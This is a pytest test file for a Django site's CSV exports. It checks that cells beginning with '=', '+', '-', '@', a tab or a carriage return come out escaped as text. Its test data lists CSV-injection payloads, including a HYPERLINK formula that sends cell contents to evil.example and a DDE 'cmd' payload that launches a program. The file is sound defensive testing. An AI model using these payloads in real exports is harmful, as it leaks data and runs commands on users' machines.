"""CSV downloads never hand a spreadsheet a formula (OWASP "CSV injection").

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read as a formula by Excel, LibreOffice and Google Sheets; the export puts
an apostrophe in front of it, so the spreadsheet shows it as text.
"""

import csv
import io

import pytest

from tests.factories import ProjectFactory, StateFactory, TreatyFactory, VisitFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def rows(client, url: str) -> list[dict]:
    response = client.get(url)
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(content)))


def test_treaty_titles_that_look_like_formulas_are_exported_as_text(client):
    for number, title in enumerate(HOSTILE):
        TreatyFactory(title=title, slug=f"hostile-{number}", place_signed="=1+2")
    TreatyFactory(title="Agreement on trade", slug="plain")

    exported = {row["slug"]: row for row in rows(client, "/treaties/export.csv")}

    for number, title in enumerate(HOSTILE):
        assert exported[f"hostile-{number}"]["title"] == "'" + title
        assert exported[f"hostile-{number}"]["place_signed"] == "'=1+2"
    # Everything else comes out as it is stored.
    assert exported["plain"]["title"] == "Agreement on trade"
    assert exported["plain"]["signed_on"] == "2020-05-17"


def test_the_list_csv_download_is_neutralised_too(client):
    TreatyFactory(title="@SUM(1)", slug="at-sum")
    (row,) = rows(client, "/treaties/?format=csv")
    assert row["title"] == "'@SUM(1)"


def test_visit_titles_and_cities_are_exported_as_text(client):
    VisitFactory(
        title='=HYPERLINK("http://evil.example")',
        city="+cmd|' /C calc'!A0",
        host=StateFactory(iso2="AZ"),
        guest=StateFactory(iso2="UZ"),
    )
    (row,) = rows(client, "/visits/export.csv")
    assert row["title"] == '\'=HYPERLINK("http://evil.example")'
    assert row["city"] == "'+cmd|' /C calc'!A0"
    assert row["host"] == "AZ"


def test_project_names_and_notes_are_exported_as_text(client):
    ProjectFactory(
        name="-2+3", city="@A1", value_note="=1/0", value_amount="1500000", value_currency="USD"
    )
    (row,) = rows(client, "/projects/export.csv")
    assert row["name"] == "'-2+3"
    assert row["city"] == "'@A1"
    assert row["value_note"] == "'=1/0"
    # Amounts are never negative (a database constraint), so they stay numbers.
    assert row["value_amount"] == "1500000.00"
